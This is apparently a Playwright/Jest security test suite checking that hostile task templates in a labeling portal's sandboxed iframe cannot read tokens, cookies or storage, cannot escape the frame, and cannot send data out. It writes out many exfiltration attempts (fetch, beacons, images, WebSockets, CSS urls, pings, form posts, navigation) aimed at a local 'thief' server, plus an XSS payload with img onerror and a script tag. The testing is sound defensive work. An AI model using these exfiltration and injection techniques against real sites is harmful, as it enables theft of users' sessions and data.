import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { ensureWorker, signIn } from '../../bin/commands/workers/accounts';
import { groupOf, workerPool } from '../../bin/commands/workers/crew';
import { Laboratory } from '../jobs/laboratory';
import { launchBrowser } from './support/browser';
import { PortalUser } from './support/portal-user';

const PASSWORD = 'Plumb-line-1';
const MARKUP = `<img src=x onerror="parent.postMessage('ran','*');window.ran=1"><script>window.ran=1</script><b>`;

let lab: Laboratory;
let browser: Browser;
let context: BrowserContext | undefined;
let token: string;
/** Everything that reached a stranger's server. */
let stolen: string[] = [];
let thief: Server;
let thiefOrigin: string;

beforeAll(async () => {
  thief = createServer((request, response) => {
    stolen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<p>thief');
  }).listen(0, '127.0.0.1');
  await once(thief, 'listening');
  thiefOrigin = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  [lab, browser] = await Promise.all([Laboratory.open(), launchBrowser()]);
  const pool = workerPool(lab.stack, groupOf(lab.stack.outputs.DefaultWorkteamArn));
  await ensureWorker(pool, 'victim', PASSWORD);
  token = await signIn(pool, 'victim', PASSWORD);
}, 120_000);
afterEach(async () => {
  await context?.close();
  stolen = [];
});
afterAll(async () => {
  await browser?.close();
  await lab?.close();
  thief.closeAllConnections();
  thief.close();
});

interface Spec {
  texts?: object[];
  template?: string;
  human?: object;
  plumbline?: object;
}

/** A job with a template and texts of somebody's who means harm, and the victim at its first task. */
async function victimAt(name: string, { texts, template, human, plumbline }: Spec): Promise<[Page, Frame]> {
  const manifest = (texts ?? [{ source: 'pear' }]).map((line) => `${JSON.stringify(line)}\n`).join('');
  const job = await lab.textJob(name, manifest);
  const UiConfig = template && { UiTemplateS3Uri: await lab.put(`data/${name}.html`, template) };
  await lab.jobs.create({
    ...job,
    HumanTaskConfig: { ...(job.HumanTaskConfig as object), ...human, ...(UiConfig ? { UiConfig } : {}) },
    ...(plumbline ? { Plumbline: plumbline } : {}),
  });
  for (;;) {
    const headers = { authorization: `Bearer ${token}` };
    const { jobs } = (await (await fetch(new URL('/api/jobs', lab.cloud.apiUrl), { headers })).json()) as any;
    if (jobs.some(({ jobKey }: any) => jobKey === name)) break;
    await wait(100);
  }
  context = await browser.newContext({ locale: 'en-US' });
  const user = await PortalUser.open(context, lab.cloud.apiUrl);
  await user.page.evaluate((value) => {
    sessionStorage.setItem('plumbline.tokens', JSON.stringify({ token: value, expiresAt: 9e15 }));
    localStorage.setItem('secret', value);
    document.cookie = 'secret=1';
  }, token);
  await user.page.goto(`${lab.cloud.apiUrl}/#/jobs`);
  await user.page.reload();
  return [user.page, await enter(user, name)];
}

async function enter(user: PortalUser, name: string): Promise<Frame> {
  await user.page.locator('.card').first().waitFor();
  await user.page.goto(`${lab.cloud.apiUrl}/#/jobs/${name}`);
  return user.task();
}

const FORM = '<crowd-form><crowd-input name="a"></crowd-input></crowd-form>';

/** Runs what a hostile template would, in its frame; an error's name is what it gets. */
const attack = (frame: Frame, code: string): Promise<unknown> =>
  frame.evaluate(`(async () => {
    try {
      const timeout = new Promise((resolve) => setTimeout(resolve, 2000, 'nothing happened'));
      return (await Promise.race([(async () => { ${code} })(), timeout])) ?? 'nothing';
    } catch (error) {
      return error.name;
    }
  })()`);

describe('a hostile template', () => {
  test('gets nothing of the portal, of other tasks, or out of its frame', async () => {
    const [page, frame] = await victimAt('hostile', { template: FORM });
    const portalUrl = page.url();
    const windows: string[] = [];
    context!.on('page', (opened) => windows.push(opened.url()));

    const denied = async (what: string, code: string, outcome: unknown = 'SecurityError') =>
      expect([what, await attack(frame, code)]).toEqual([what, outcome]);
    expect(await frame.evaluate(() => self.origin)).toBe('null');
    await denied('the parent page', 'return parent.document.title');
    await denied('the token', 'return parent.sessionStorage.length');
    await denied('the portal’s address', 'return top.location.href');
    await denied('other frames', 'return parent.frames[0].frameElement.src', 'TypeError');
    await denied('its storage', 'return localStorage.length');
    await denied('the tab’s storage', 'return sessionStorage.length');
    await denied('cookies', 'return document.cookie');
    await denied('drafts', 'return indexedDB.open("plumbline").name');
    await denied('the cache', 'return (await caches.keys()).length');
    await denied('service workers', 'return navigator.serviceWorker.register("/assets/portal.js")');
    await denied('to become the portal', 'top.location = "about:blank"');
    await denied('the API', 'return (await fetch("/api/jobs", { credentials: "include" })).status', 'TypeError');
    await denied('tasks of others', 'return (await fetch(location.href)).text()', 'TypeError');
    await denied('workers with an origin', 'new Worker("/assets/portal.js")');
    await denied('windows', 'return String(window.open("about:blank"))', 'null');
    await denied(
      'windows by links',
      'const a = document.createElement("a"); a.target = "_blank"; a.href = "data:,x"; a.click()',
      'nothing',
    );

    // What it could tell somebody.
    const send = (code: string) => attack(frame, code);
    await send(`await fetch("${thiefOrigin}/fetch", { mode: "no-cors" })`);
    await send(`navigator.sendBeacon("${thiefOrigin}/beacon", "x"); await timeout`.replace('; await timeout', ''));
    await send(
      `const i = new Image(); i.src = "${thiefOrigin}/image"; await new Promise((r) => { i.onload = i.onerror = r })`,
    );
    await send(
      `const s = document.createElement("script"); s.src = "${thiefOrigin}/script"; document.body.append(s); await new Promise((r) => { s.onload = s.onerror = r })`,
    );
    await send(
      `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${thiefOrigin}/style"; document.head.append(l); await new Promise((r) => { l.onload = l.onerror = r })`,
    );
    await send(
      `const w = new WebSocket("${thiefOrigin.replace('http', 'ws')}/socket"); await new Promise((r) => { w.onopen = w.onerror = r })`,
    );
    await send(
      `const e = new EventSource("${thiefOrigin}/events"); await new Promise((r) => { e.onopen = e.onerror = r })`,
    );
    await send(
      `document.body.insertAdjacentHTML("beforeend", '<iframe src="${thiefOrigin}/frame"></iframe><video src="${thiefOrigin}/video"></video><object data="${thiefOrigin}/object"></object><link rel="prefetch" href="${thiefOrigin}/prefetch">')`,
    );
    await send(
      `await new Promise((r) => { const f = new FontFace("x", "url(${thiefOrigin}/font)"); f.load().then(r, r) })`,
    );
    expect(stolen).toEqual([]);

    // Leaving: the browser shows an error in the frame's place, and asks nobody.
    const gone = page.waitForEvent('framenavigated');
    await send(`location.href = "${thiefOrigin}/navigate?task=" + document.title`).catch(() => {});
    await gone;
    expect(stolen).toEqual([]);
    expect(windows).toEqual([]);
    expect(page.url()).toBe(portalUrl);
    await page.getByRole('button', { name: 'Submit' }).waitFor();
    await lab.jobs.stop('hostile');
  });

  test('finds no other way out either, and speaks to nobody but the portal around it', async () => {
    const [page, frame] = await victimAt('ways-out', { template: FORM, texts: [{ source: 'a' }, { source: 'b' }] });
    const portalUrl = page.url();
    const send = (code: string) => attack(frame, code);
    const put = (markup: string) => send(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`);
    const links = ['prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest', 'next'];
    await put(links.map((rel) => `<link rel="${rel}" as="script" href="${thiefOrigin}/${rel}">`).join(''));
    await put(`<style>@import "${thiefOrigin}/import"; p { background: url(${thiefOrigin}/css); cursor: url(${thiefOrigin}/cursor), auto;
      list-style: url(${thiefOrigin}/list) } p::after { content: url(${thiefOrigin}/content) }</style><p style="border-image: url(${thiefOrigin}/border)">x`);
    await put(`<svg><image href="${thiefOrigin}/svg"/><use href="${thiefOrigin}/use#x"/></svg><audio src="${thiefOrigin}/audio" preload="auto"></audio>
      <input type="image" src="${thiefOrigin}/input"><embed src="${thiefOrigin}/embed"><img srcset="${thiefOrigin}/srcset 1x">`);
    await send(`const s = document.createElement("script"); s.type = "speculationrules";
      s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["${thiefOrigin}/speculation"] }] }); document.head.append(s)`);
    await put(`<a id="ping" href="#here" ping="${thiefOrigin}/ping">x</a>`);
    await send('document.getElementById("ping").click()');
    await send(`await fetch("${thiefOrigin}/keepalive", { mode: "no-cors", keepalive: true })`);
    // A worker made of the page's own text has the page's own policy, and so has a frame within the frame.
    expect(
      await send(`const w = new Worker(URL.createObjectURL(new Blob(["fetch('${thiefOrigin}/worker', { mode: 'no-cors' }).then(() => postMessage('out'), () => postMessage('denied'))"])));
        return new Promise((r) => { w.onmessage = ({ data }) => r(data) })`),
    ).toBe('denied');
    expect(
      await send(`const f = document.createElement("iframe"); f.srcdoc = "<img src=${thiefOrigin}/srcdoc>"; document.body.append(f);
        await new Promise((r) => { f.onload = r }); return "loaded"`),
    ).toBe('loaded');
    await put(
      `<form id="out" method="get" target="_top" action="${thiefOrigin}/top"><input name="q" value="x"></form>`,
    );
    await send('document.getElementById("out").submit()');
    await put(
      `<a id="up" target="_top" href="${thiefOrigin}/up">x</a><a id="down" download href="${thiefOrigin}/download">x</a>`,
    );
    await send('document.getElementById("up").click(); document.getElementById("down").click()');
    await page.getByRole('dialog', { name: 'Open this page?' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    // Nothing but the elements runs on the page of a template that has no scripts.
    await put(
      '<img src="x" onerror="window.ran = 1"><iframe srcdoc="<script>parent.postMessage(1, `*`)</script>"></iframe>',
    );
    await send('const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s)');
    for (const [what, code] of [
      ['a shared worker', 'new SharedWorker("/assets/portal.js")'],
      ['files of its own', 'await navigator.storage.getDirectory()'],
      ['the clipboard', 'await navigator.clipboard.readText()'],
    ] as const)
      expect([what, await send(code)]).toEqual([
        what,
        expect.stringMatching(/SecurityError|NotAllowedError|TypeError/),
      ]);

    // Channels do not reach the portal; what it says by messages is heard only where it means something.
    await page.evaluate(() => {
      const heard: unknown[] = [];
      Object.assign(window, { heard });
      new BroadcastChannel('plumbline').onmessage = ({ data }) => heard.push(data);
    });
    await send('new BroadcastChannel("plumbline").postMessage("x")');
    const lease = await page.locator('iframe[data-lease]').getAttribute('data-lease');
    await send(`for (const data of [null, 7, "plumbline:submit", [], { type: "plumbline:submit" }, { type: "plumbline:submit", answer: [1] },
      { type: "plumbline:draft", answer: {} }, { type: "plumbline:change", answer: "x" }, { type: "plumbline:open", url: "data:text/html,x" },
      { type: "plumbline:open", url: "/relative" }, { type: "__proto__" }]) parent.postMessage(data, "*")`);
    // The page that waits for its turn may not speak yet.
    const waiting = (await (await page.locator('iframe[inert]').elementHandle())!.contentFrame())!;
    await waiting.evaluate(() => {
      const answer = { a: 'forged' };
      for (const type of ['submit', 'change', 'key', 'open'])
        parent.postMessage(
          { type: `plumbline:${type}`, answer, key: 'x', code: 'KeyX', url: 'https://example.com', isTouched: true },
          '*',
        );
    });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
    expect(await page.evaluate(() => (window as any).heard)).toEqual([]);
    expect(await page.getByRole('dialog').count()).toBe(0);
    expect(await page.locator('iframe[data-lease]').getAttribute('data-lease')).toBe(lease);
    expect(await page.getByRole('button', { name: 'Submit' }).isEnabled()).toBe(true);
    expect(page.url()).toBe(portalUrl);
    expect(await send('return String(window.ran)')).toBe('undefined');
    expect(stolen).toEqual([]);
    await lab.jobs.stop('ways-out');
  });

  test('posts no form to anybody', async () => {
    const [, frame] = await victimAt('posting', { template: FORM });
    const blocked = frame.evaluate(
      () =>
        new Promise<string>((resolve) =>
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
        ),
    );
    await attack(
      frame,
      `const f = document.createElement("form"); f.method = "post"; f.action = "${thiefOrigin}/form"; document.body.append(f); f.submit()`,
    ).catch(() => {});
    expect(await blocked.catch(() => 'form-action')).toBe('form-action');
    expect(stolen).toEqual([]);
    await lab.jobs.stop('posting');
  });

  test('cannot make the portal believe another frame, nor open a page without the worker', async () => {
    const link = `<a id="out" href="https://example.com/rules?a=1" target="_blank">rules</a>`;
    const [page, frame] = await victimAt('messages', { template: `${link}${FORM}` });
    // A frame within the frame is not the task page.
    await frame.evaluate(() => {
      const inner = document.createElement('iframe');
      inner.srcdoc = `<script>top.postMessage({ type: 'plumbline:submit', answer: { a: 'forged' } }, '*')</script>`;
      document.body.append(inner);
      return new Promise((resolve) => inner.addEventListener('load', resolve));
    });
    expect(await page.getByRole('button', { name: 'Submit' }).isEnabled()).toBe(true);
    await frame.evaluate(() => parent.postMessage({ type: 'plumbline:open', url: 'javascript:alert(1)' }, '*'));
    await frame.locator('#out').click();
    await page.getByRole('dialog', { name: 'Open this page?' }).waitFor();
    expect(await page.locator('dialog .address').textContent()).toBe('https://example.com/rules?a=1');
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect(context!.pages()).toHaveLength(1);
    await lab.jobs.stop('messages');
  });

  test('reaches what the job’s owner allows', async () => {
    const [, frame] = await victimAt('allowed', {
      template: FORM,
      plumbline: { TaskPage: { AllowedOrigins: [thiefOrigin] } },
    });
    await attack(frame, `await fetch("${thiefOrigin}/allowed")`);
    expect(stolen).toEqual(['GET /allowed']);
    await lab.jobs.stop('allowed');
  });
});

test('texts, labels and titles full of markup do not run, in the task or in the portal', async () => {
  const [page, frame] = await victimAt('markup', {
    texts: [{ source: MARKUP, note: MARKUP }],
    human: { TaskTitle: MARKUP.slice(0, 128), TaskDescription: MARKUP },
  });
  expect(await frame.locator('classification-target').textContent()).toContain('onerror');
  expect(await page.locator('.bar h1').textContent()).toContain('onerror');
  const ran = () => (globalThis as any).ran;
  expect([await frame.evaluate(ran), await page.evaluate(ran)]).toEqual([undefined, undefined]);
  await page.goto(`${lab.cloud.apiUrl}/#/jobs`);
  await page.getByRole('heading', { name: MARKUP.slice(0, 128) }).waitFor();
  expect(await page.locator('.cards').textContent()).toContain('onerror');
  expect(await page.locator('.card img, .card script').count()).toBe(0);
  expect(await page.evaluate(ran)).toBeUndefined();
  await lab.jobs.stop('markup');
});
